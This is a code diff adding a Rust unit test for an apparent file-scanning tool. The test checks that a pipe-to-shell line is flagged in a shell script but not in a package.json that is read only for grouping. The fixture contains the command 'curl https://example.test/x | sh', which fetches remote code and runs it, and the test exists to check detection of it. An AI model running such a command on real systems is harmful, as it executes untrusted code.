@@ -240,6 +240,27 @@ mod tests {
         }
     }
 
+    #[test]
+    fn a_file_read_only_for_grouping_is_not_flagged_as_the_sync_would_not() {
+        let dir = tempfile::tempdir().expect("temporary directory");
+        let piped = "curl https://example.test/x | sh\n";
+        let manifest = format!("{{\"name\": \"p\", \"description\": \"{}\"}}", piped.trim());
+        for (path, content) in [
+            ("package.json", manifest.as_str()),
+            ("scripts/run.sh", piped),
+        ] {
+            let full = dir.path().join(path);
+            std::fs::create_dir_all(full.parent().expect("a parent")).expect("folders");
+            std::fs::write(full, content).expect("write a file");
+        }
+        assert!(needs_content("package.json") && !is_checked("package.json"));
+        let connector =
+            LocalConnector::new(dir.path(), ConnectorLimits::default()).expect("connector");
+        let (_, flags) = walk_and_capture(&connector);
+        let flagged: Vec<&str> = flags.iter().map(|(path, _)| path.as_str()).collect();
+        assert_eq!(flagged, ["scripts/run.sh"]);
+    }
+
     /// The rows and flags one thread gets by listing, then reading each file to read
     /// in listing order.
     fn read_in_order(connector: &LocalConnector) -> (Vec<IndexedFile>, Vec<(String, Vec<Flag>)>) {
